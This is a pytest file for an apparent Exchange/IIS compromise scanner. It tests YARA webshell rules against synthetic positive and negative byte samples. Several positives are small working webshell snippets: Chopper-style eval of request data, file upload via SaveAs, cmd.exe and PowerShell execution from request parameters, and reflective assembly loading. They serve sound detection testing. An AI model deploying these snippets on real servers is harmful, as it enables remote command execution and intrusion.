"""Built-in YARA rules: every rule has its meta and at least one positive and one negative sample.
All samples below are SYNTHETIC, written by the lekdicht authors for these tests."""

# ruff: noqa: E501  (synthetic samples and configuration lines are kept whole)

from __future__ import annotations

import re

import pytest

from lekdicht.files.results import ScanError
from lekdicht.files.yara_engine import YaraEngine, builtin_rule_sources

pytest.importorskip("yara_x")

BENIGN_PAGE = (
    b'<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n'
    b'<html><body><form action="/owa/auth.owa" method="POST"><input name="username"></form></body></html>\n'
)


def _pe(*parts: bytes) -> bytes:
    """A synthetic PE-like byte string (MZ header, padding, the given strings)."""
    return b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + b"\x00" * 128 + b"\x00".join(parts) + b"\x00" * 64


SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
    "lekdicht_chopper_eval_request": (
        [
            b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
            b'<%@ Page Language="Jscript"%><%eval(Request.Form["z"]);%>',
            b'<%eval request("z")%>',
            b'<script runat="server">function Page_Load(){eval(System.Text.Encoding.UTF8.GetString('
            b'System.Convert.FromBase64String(Request["x"])),"unsafe");}</script>',
        ],
        [BENIGN_PAGE, b"<script>var x = eval('1+1');</script>"],
    ),
    "lekdicht_chopper_jscript_obfuscated": (
        [
            b'<%@ Page Language="JScript"%><%var k=Request["\\x6b\\x65\\x79"];eval(k,"\\x75\\x6e\\x73\\x61\\x66\\x65");%>',
            b'<%@ Language=JScript%><% var p = Request.Form["p"]; eval(p, "un" + "safe"); %>',
        ],
        [BENIGN_PAGE, b'<%@ Page Language="JScript"%><% var a = 1; Response.Write(a); %>'],
    ),
    "lekdicht_aspx_upload_saveas_request": (
        [
            b'<%@ Page Language="C#"%><%Request.Files[0].SaveAs(Server.MapPath(Request["f"]));%>',
            b'<% If Request.Files.Count <> 0 Then Request.Files(0).SaveAs(Server.MapPath(Request("f")) ) %>',
            b'<%@ Page Language="C#"%><% File.WriteAllBytes(Request["p"], Convert.FromBase64String(Request["d"])); %>',
        ],
        [
            BENIGN_PAGE,
            b'<%@ Page Language="C#"%><% Request.Files[0].SaveAs(Server.MapPath("~/uploads/a.png")); %>',
        ],
    ),
    "lekdicht_aspx_command_exec": (
        [
            b'<%@ Page Language="C#"%><script runat="server">void R(){var p=new ProcessStartInfo("cmd.exe","/c "+'
            b'Request["c"]);p.RedirectStandardOutput=true;Process.Start(p);}</script>',
        ],
        [BENIGN_PAGE, b"var p = new ProcessStartInfo('cmd.exe'); // C# outside a page"],
    ),
    "lekdicht_aspx_powershell_runner": (
        [
            b'<%@ Page Language="C#"%><script runat="server">string ps(string a){var psi=new ProcessStartInfo();'
            b'psi.FileName="powershell.exe";psi.Arguments="-noninteractive -executionpolicy bypass "+a;}</script>',
            b'<%@ Page Language="C#"%><%@ Import Namespace="System.Management.Automation" %><script runat="server">'
            b'void R(){var ps=PowerShell.Create();ps.AddScript(Request.Form["c"]);}</script>',
        ],
        [
            BENIGN_PAGE,
            b'<%@ Page Language="C#"%><p>Run powershell.exe on your desktop to manage Exchange.</p>',
        ],
    ),
    "lekdicht_aspx_reflective_loader": (
        [
            b'<%@ Page Language="C#"%><%System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["k"]))'
            b'.CreateInstance("U").Equals(this);%>',
            b'<%@ Page Language="C#"%><% var x = new XmlDocument(); x.LoadXml(Encoding.UTF8.GetString('
            b'Convert.FromBase64String(Request["x"]))); %>',
        ],
        [BENIGN_PAGE, b'<%@ Page Language="C#"%><% var a = Assembly.Load("System.Web"); %>'],
    ),
    "lekdicht_aspx_security_product_checker": (
        [
            b'<%@ Page Language="C#"%><% if (Directory.Exists(@"C:\\Program Files\\CrowdStrike")) Response.Write("cs");'
            b' if (File.Exists(@"C:\\Program Files\\FireEye\\xagt\\xagt.exe")) Response.Write("fe"); %>',
        ],
        [BENIGN_PAGE, b"<p>We use CrowdStrike and FireEye.</p>"],
    ),
    "lekdicht_exchange_oab_config_webshell": (
        [
            b"PollInterval : 480\r\nOfflineAddressBooks : \\Default Offline Address Book\r\n"
            b"InternalUrl : https://mail.example.test/OAB\r\n"
            b'ExternalUrl : http://f/<script language="JScript" runat="server">function Page_Load(){'
            b'Response.Write("x");}</script>\r\nInternalAuthenticationMethods : {WindowsIntegrated}\r\n',
        ],
        [
            b"PollInterval : 480\r\nInternalUrl : https://mail.example.test/OAB\r\n"
            b"ExternalUrl : https://mail.example.test/OAB\r\n",
            BENIGN_PAGE,
            # an ECP-like page that edits virtual directories is an ASP.NET page, not an exported config
            b'<%@ Page Language="C#" %>\n<label>ExternalUrl</label> <script runat="server">void A(){}</script>\n'
            b"<span>PollInterval</span>",
        ],
    ),
    "lekdicht_proxyshell_pst_aspx": (
        [
            b"!BDN\x9e\x8b\x00\x00\x53\x4d"
            + b"\x00" * 500
            + b'<%@ Page Language="C#" %><p>x</p>'
            + b"\x00" * 100
        ],
        [b"!BDN\x9e\x8b\x00\x00\x53\x4d" + b"\x00" * 500 + b"ordinary mailbox data", BENIGN_PAGE],
    ),
    "lekdicht_proxyshell_der_aspx": (
        [
            b"\x30\x82\x02\x10\x30\x82\x01\xf8\x02\x01\x00\x30"
            + b'\x0c<%@ Page Language="JScript"%><%Response.Write(1)%>'
        ],
        [b"\x30\x82\x02\x10\x30\x82\x01\xf8\x02\x01\x00\x30" + b"\x0cCN=mail.example.test", BENIGN_PAGE],
    ),
    "lekdicht_aspx_binary_prefix_dropper": (
        [bytes([1, 2, 3, 0x80, 0x81, 0x1F, 0xF0, 0x00]) + b'junk<%@ Page Language="C#" %><p>x</p>'],
        [
            b"\xef\xbb\xbf" + BENIGN_PAGE,
            b"PK\x03\x04\x14\x00\x00\x00" + b'<%@ Page Language="C#" %>',
            BENIGN_PAGE,
        ],
    ),
    "lekdicht_compiled_app_web_webshell": (
        [
            _pe(
                b"App_Web_k3j2h1g0",
                b"System.Web.UI.Page",
                b"get_Request",
                b"get_Item",
                b"JScriptEvaluate",
                "unsafe".encode("utf-16-le"),
            ),
            _pe(
                b"App_Web_a1b2c3d4",
                b"System.Web.UI.Page",
                b"get_Request",
                b"ProcessStartInfo",
                "cmd.exe".encode("utf-16-le"),
            ),
        ],
        [
            _pe(b"App_Web_k3j2h1g0", b"System.Web.UI.Page", b"get_Request", b"__BuildControlTree"),
            _pe(b"SomeLibrary", b"get_Request", b"JScriptEvaluate", "unsafe".encode("utf-16-le")),
        ],
    ),
    "lekdicht_heur_aspx_webshell_keywords": (
        [
            b'<%@ Page Language="C#"%><% var a = Assembly.Load(name); %>',
            b'<%@ Page Language="JScript"%><p>x</p>',
        ],
        [BENIGN_PAGE, b"function a(){return eval('1')}"],
    ),
    "lekdicht_lsass_minidump": (
        [
            b"MDMP\x93\xa7\x00\x00" + b"\x00" * 200 + "C:\\Windows\\System32\\lsass.exe".encode("utf-16-le"),
            b"MDMP\x93\xa7\x00\x00"
            + "lsasrv.dll".encode("utf-16-le")
            + b"\x00" * 8
            + "wdigest.DLL".encode("utf-16-le"),
        ],
        [
            b"MDMP\x93\xa7\x00\x00" + b"\x00" * 200 + "C:\\Windows\\notepad.exe".encode("utf-16-le"),
            b"text mentioning lsass.exe",
        ],
    ),
    "lekdicht_web_config_static_machinekey": (
        [
            b'<?xml version="1.0"?><configuration><system.web><machineKey validationKey='
            b'"CB2721ABDAF8E9DC516D621D8B8BF13A2C9E8689A25303BF" validation="SHA1" /></system.web></configuration>',
        ],
        [
            b'<?xml version="1.0"?><configuration><system.web><machineKey validationKey="AutoGenerate,IsolateApps" />'
            b"</system.web></configuration>"
        ],
    ),
}


@pytest.fixture(scope="module")
def engine() -> YaraEngine:
    errors: list[ScanError] = []
    eng = YaraEngine.build([], errors)
    assert errors == []
    return eng


def _rule_names() -> list[str]:
    names = []
    for _, source in builtin_rule_sources():
        names.extend(re.findall(r"^rule\s+(\w+)", source, flags=re.M))
    return names


def test_every_rule_has_samples() -> None:
    assert sorted(_rule_names()) == sorted(SAMPLES)


def test_rule_meta_complete() -> None:
    for _, source in builtin_rule_sources():
        for block in re.split(r"^rule\s+", source, flags=re.M)[1:]:
            name = block.split()[0]
            for key in (
                "description",
                "author",
                "reference",
                "verdict",
                "severity",
                "kind",
                "anchor",
                "cves",
                "attack",
            ):
                assert re.search(rf"^\s+{key}\s*=", block, flags=re.M), f"{name} lacks meta {key}"
            assert 'author = "lekdicht"' in block
            verdict = re.search(r'verdict = "(\w+)"', block)
            assert verdict and verdict.group(1) in {"exploited", "suspicious", "info"}
            severity = re.search(r'severity = "(\w+)"', block)
            assert severity and severity.group(1) in {"critical", "high", "medium", "low"}


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_rule_samples(engine: YaraEngine, rule: str) -> None:
    positives, negatives = SAMPLES[rule]
    assert positives and negatives
    for i, data in enumerate(positives):
        hits = {h.identifier for h in engine.scan(data, "x.aspx", ".aspx")}
        assert rule in hits, f"positive sample {i} not matched by {rule}"
    for i, data in enumerate(negatives):
        hits = {h.identifier for h in engine.scan(data, "x.aspx", ".aspx")}
        assert rule not in hits, f"negative sample {i} matched by {rule}"
